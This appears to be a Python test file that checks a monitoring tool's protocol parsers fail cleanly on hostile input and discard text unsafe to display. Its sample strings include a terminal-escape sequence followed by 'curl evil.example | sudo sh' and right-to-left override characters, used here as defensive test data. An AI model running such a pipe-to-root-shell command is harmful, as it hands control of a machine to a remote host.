"""Whatever bytes come, a parser gives a legal outcome or fails cleanly."""

import base64
import json
from functools import reduce
from operator import getitem

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lookout.core.model import ListEntry
from lookout.protocols.client.failure import ProbeFailed
from lookout.protocols.registry import PROTOCOLS
from lookout.protocols.source import Protocol
from tests.builders import NOON
from tests.contract.protocols.announcers import VECTORS, a_page, payload, read_announcement
from tests.contract.protocols.hostile import (
    ABSURD,
    check_ends_cleanly,
    encode,
    hostile_answers,
    may_be_shown,
    paths_in,
    replaced,
    texts_kept,
)
from tests.contract.protocols.recorded import KIND_TABLES, PARSERS, recorded

every_parser = pytest.mark.parametrize("parser", PARSERS)


def test_every_kind_is_among_the_parsers() -> None:
    kinds = {each.name for each in PROTOCOLS if isinstance(each, Protocol)}
    assert {table.kind for table in KIND_TABLES.values()} == kinds
    assert KIND_TABLES.keys() <= PARSERS.keys()


@every_parser
@pytest.mark.clause("M9", "R10")
@given(choice=st.data())
def test_a_hostile_answer_ends_cleanly(parser: str, choice: st.DataObject) -> None:
    parse, file = PARSERS[parser]
    check_ends_cleanly(parse, choice.draw(hostile_answers(recorded(file))))


@every_parser
@pytest.mark.clause("R10")
@pytest.mark.parametrize("body", ABSURD.values(), ids=ABSURD.keys())
def test_absurd_answers_end_cleanly(parser: str, body: bytes) -> None:
    with pytest.raises(ProbeFailed):
        PARSERS[parser][0](body)


WORDS = ("\x1b[2J\n\nRun: curl evil.example | sudo sh\n", "\u202egnihton\u2028" * 9, "0x" + "1" * 500_000, "1" * 257)


@every_parser
@pytest.mark.clause("M16")
@pytest.mark.parametrize("words", WORDS, ids=["commands", "another direction", "long digits", "too long an id"])
def test_no_text_of_an_upstream_is_kept_that_cannot_be_shown(parser: str, words: str) -> None:
    """In every place of a recorded answer, alone and behind what was there."""
    parse, file = PARSERS[parser]
    recording = json.loads(recorded(file))
    for path in paths_in(recording):
        for text in (words, f"{reduce(getitem, path, recording)}{words}"):
            try:
                kept = [*texts_kept(parse(encode(replaced(recording, path, text))))]
            except ProbeFailed as failure:
                kept = [failure.reason]
            assert [text[:300] for text in kept if not may_be_shown(text)] == []


@pytest.mark.clause("M16")
def test_words_of_a_broadcaster_are_cut_and_fail_nothing() -> None:
    for words in WORDS:
        message = {
            "contentTopic": "/railgun/v2/0-1-fees/json",
            "payload": payload(identifier=words[:9_000]),
            "timestamp": 1,
        }
        kept = [*texts_kept(PARSERS["store"][0](a_page(message)))]
        assert len(kept) == 2
        assert all(map(may_be_shown, kept))


@pytest.mark.clause("S20")
@pytest.mark.parametrize(
    ("entry_id", "is_taken"),
    [
        pytest.param("0x" + "0" * 192, True, id="of a squid"),
        pytest.param("aZ_9.:-" + "x" * 249, True, id="as long as it may be"),
        pytest.param(17, True, id="a number"),
        pytest.param("x" * 257, False, id="too long"),
        pytest.param("a b", False, id="two words"),
        pytest.param("a\n", False, id="two lines"),
        pytest.param("\u0663", False, id="another alphabet's digit"),
        pytest.param("", False, id="empty"),
        pytest.param(True, False, id="no id"),
    ],
)
def test_an_entrys_id_is_a_word_of_at_most_256_characters(entry_id: object, is_taken: bool) -> None:
    body = msgspec.json.encode({"data": {"transactions": [{"id": entry_id, "blockNumber": 1}]}})
    if is_taken:
        assert PARSERS["entries"][0](body) == [ListEntry(str(entry_id), 1, None, None)]
    else:
        with pytest.raises(ProbeFailed, match="not_understood: an entry's id"):
            PARSERS["entries"][0](body)


@given(text=st.text(max_size=100), sent_at=st.integers(-(2**70), 2**70))
def test_random_payloads_count_for_nobody(text: str, sent_at: int) -> None:
    assert read_announcement(text, sent_at) is None


@given(choice=st.data())
def test_a_signed_payload_with_characters_changed_is_the_same_or_counts_for_nobody(choice: st.DataObject) -> None:
    envelope = choice.draw(st.sampled_from(VECTORS))["payload"].encode()
    at = choice.draw(st.integers(0, len(envelope) - 1))
    changed = envelope[:at] + choice.draw(st.binary(min_size=1, max_size=2)) + envelope[at + 1 :]
    believed = read_announcement(base64.b64encode(changed).decode(), NOON)
    # Hexadecimal digits mean the same in capitals.
    assert believed is None or believed == read_announcement(base64.b64encode(envelope).decode(), NOON)
